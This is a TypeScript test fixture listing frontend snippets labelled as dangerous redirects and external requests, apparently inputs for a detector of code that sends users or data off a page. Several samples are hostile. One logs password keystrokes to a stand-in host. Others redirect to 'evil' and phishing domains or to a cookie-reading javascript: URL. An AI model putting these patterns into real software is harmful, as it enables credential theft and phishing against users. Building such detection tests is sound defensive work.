// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

const raw = String.raw;

/** What leaves the page: redirects and external requests. */
export const PLAIN_C_NETWORK: readonly Dangerous[] = [
  // redirect
  [
    "redirect",
    raw`export function LoginButton() {
  return <button onClick={() => { window.location.href = "https://login.example.com"; }}>Log in</button>;
}`,
  ],
  [
    "redirect",
    raw`export function Banner() {
  useEffect(() => {
    window.location.replace("https://promo.shop-deals.net/landing");
  }, []);
  return null;
}`,
  ],
  [
    "redirect",
    raw`export default {
  mounted() {
    if (!this.user) location.href = "https://accounts.evil.example/login";
  },
};`,
  ],
  [
    "redirect",
    `export const Go = ({ id }: { id: string }) => (
  <a onClick={() => location.assign(\`https://tracker.example.com/out?id=\${id}\`)}>Go</a>
);`,
  ],
  [
    "redirect",
    raw`export function Pay() {
  const pay = async () => {
    const res = await api.post("/pay");
    window.location = "https://pay.example.com/" + res.id;
  };
  return <button onClick={pay}>Pay</button>;
}`,
  ],
  [
    "redirect",
    raw`class Exit extends HTMLElement {
  connectedCallback() {
    this.addEventListener("click", () => {
      document.location.href = "http://example.org/bye";
    });
  }
}`,
  ],
  [
    "redirect",
    raw`export function Frame() {
  if (window.top !== window.self) {
    window.top.location.href = "https://www.example.com";
  }
  return <main />;
}`,
  ],
  [
    "redirect",
    raw`export const Expired = () => {
  setTimeout(() => { location = "https://example.com/expired"; }, 2000);
  return <p>Your session has expired.</p>;
};`,
  ],
  [
    "redirect",
    raw`export function Open() {
  return <button onClick={() => window.open("https://ads.example.com", "_self")}>Open</button>;
}`,
  ],
  [
    "redirect",
    raw`export function Refresh() {
  return (
    <head>
      <meta httpEquiv="refresh" content="0;url=https://phish.example.net" />
    </head>
  );
}`,
  ],
  [
    "redirect",
    raw`function go(url: string) {
  window.location.assign(url);
}
export const Menu = () => <li onClick={() => go("https://other.example")}>Other</li>;`,
  ],
  [
    "redirect",
    raw`export default function App() {
  const handle = (e) => {
    e.preventDefault();
    parent.location.href = "https://example.com/parent";
  };
  return <form onSubmit={handle}><button>Send</button></form>;
}`,
  ],
  [
    "redirect",
    raw`$(".cta").on("click", function () {
  window.location.href = "https://offers.example.com/?ref=" + $(this).data("ref");
});`,
  ],
  [
    "redirect",
    raw`export function SignOut() {
  const signOut = () => fetch("/logout").then(() => self.location.assign("https://sso.example.com/logout"));
  return <button onClick={signOut}>Sign out</button>;
}`,
  ],
  [
    "redirect",
    raw`export const LocaleSwitch = ({ locale }) => {
  function change(event) {
    document.location.assign("https://" + event.target.value + ".example.com/");
  }
  return <select value={locale} onChange={change} />;
};`,
  ],
  [
    "redirect",
    raw`export function useRedirect() {
  useEffect(() => {
    globalThis.location.href = "//cdn.example.com/page";
  });
}`,
  ],
  [
    "redirect",
    raw`export function Download() {
  const click = () => {
    const a = document.createElement("a");
    a.href = "https://files.example.com/setup.exe";
    document.body.appendChild(a);
    a.click();
  };
  return <button onClick={click}>Download</button>;
}`,
  ],
  [
    "redirect",
    raw`export function hijack(form) {
  form.addEventListener("submit", () => {
    window.location.href = "javascript:alert(document.cookie)";
  });
}`,
  ],
  [
    "redirect",
    raw`export const Guard = ({ ok, children }) => {
  if (!ok) {
    window.location.hostname = "evil.example.com";
    return null;
  }
  return children;
};`,
  ],
  [
    "redirect",
    raw`const el = document.createElement("meta");
el.httpEquiv = "refresh";
el.content = "3; url=https://example.net/next";
document.head.append(el);`,
  ],
  // external-request
  [
    "external-request",
    raw`export function Weather() {
  const [data, setData] = useState(null);
  useEffect(() => {
    fetch("https://api.weather.example/v1/today").then((r) => r.json()).then(setData);
  }, []);
  return <div>{data?.temp}</div>;
}`,
  ],
  [
    "external-request",
    raw`export default {
  async created() {
    const response = await fetch("http://collector.example.com/visit", { method: "POST" });
    this.ok = response.ok;
  },
};`,
  ],
  [
    "external-request",
    raw`export function Tracker({ event }: { event: string }) {
  useEffect(() => {
    navigator.sendBeacon("https://stats.example.com/e", event);
  }, [event]);
  return null;
}`,
  ],
  [
    "external-request",
    raw`export function Chat() {
  const socket = useRef<WebSocket>();
  useEffect(() => {
    socket.current = new WebSocket("wss://chat.example.com/room");
    return () => socket.current?.close();
  }, []);
  return <Messages />;
}`,
  ],
  [
    "external-request",
    `const API_URL = "https://api.example.com";
export const getUser = (id) => fetch(\`\${API_URL}/users/\${id}\`).then((r) => r.json());`,
  ],
  [
    "external-request",
    raw`function load(cb) {
  var xhr = new XMLHttpRequest();
  xhr.open("GET", "https://example.com/data.json", true);
  xhr.onload = function () { cb(xhr.responseText); };
  xhr.send();
}`,
  ],
  [
    "external-request",
    raw`export function Feed() {
  useEffect(() => {
    const source = new EventSource("https://events.example.com/stream");
    source.onmessage = (e) => add(JSON.parse(e.data));
    return () => source.close();
  }, []);
  return <ul />;
}`,
  ],
  [
    "external-request",
    raw`const Editor = React.lazy(() => import("https://esm.sh/some-editor@1"));
export default Editor;`,
  ],
  [
    "external-request",
    raw`import axios from "axios";
export const save = (form: FormData) => axios.post("https://forms.example.com/submit", form);`,
  ],
  [
    "external-request",
    raw`import confetti from "https://cdn.skypack.dev/canvas-confetti";
export const Party = () => <button onClick={() => confetti()}>Party</button>;`,
  ],
  [
    "external-request",
    raw`export function Newsletter() {
  const submit = async (e: React.FormEvent<HTMLFormElement>) => {
    e.preventDefault();
    const body = new FormData(e.currentTarget);
    await window.fetch("https://hooks.example.com/newsletter", { method: "POST", body });
  };
  return <form onSubmit={submit}><input name="email" /></form>;
}`,
  ],
  [
    "external-request",
    raw`$.ajax({ url: "https://api.example.com/items", method: "GET", success: renderItems });`,
  ],
  [
    "external-request",
    raw`export const useItems = () => useQuery({ queryKey: ["items"], queryFn: () => fetch("https://items.example.com").then((r) => r.json()) });`,
  ],
  [
    "external-request",
    raw`export const useSwr = () => {
  const fetcher = (url) => fetch(url).then((res) => res.json());
  return fetcher("https://api.github.com/users/octocat");
};`,
  ],
  [
    "external-request",
    raw`class Store {
  base = "https://store.example.com/";
  async list(): Promise<Item[]> {
    const res = await fetch(this.base + "list");
    return res.json();
  }
}
export default new Store();`,
  ],
  [
    "external-request",
    raw`const worker = new Worker("https://cdn.example.com/worker.js");
export const run = (job) => worker.postMessage(job);`,
  ],
  [
    "external-request",
    raw`export function Pixel({ page }) {
  useEffect(() => {
    const img = new Image();
    img.src = "https://pixel.example.com/p.gif?page=" + page;
  }, [page]);
  return null;
}`,
  ],
  [
    "external-request",
    raw`const req = new Request("https://api.example.com/v2/save", { method: "PUT" });
export const put = () => fetch(req);`,
  ],
  [
    "external-request",
    raw`export function Login() {
  const [password, setPassword] = useState("");
  const onChange = (e) => {
    setPassword(e.target.value);
    fetch("//keys.example.com/log?k=" + e.target.value, { mode: "no-cors" });
  };
  return <input type="password" value={password} onChange={onChange} />;
}`,
  ],
  [
    "external-request",
    raw`const endpoints = { users: "https://u.example.com/users", posts: "https://u.example.com/posts" };
export function load(kind: keyof typeof endpoints) {
  return fetch(endpoints[kind]);
}`,
  ],
];
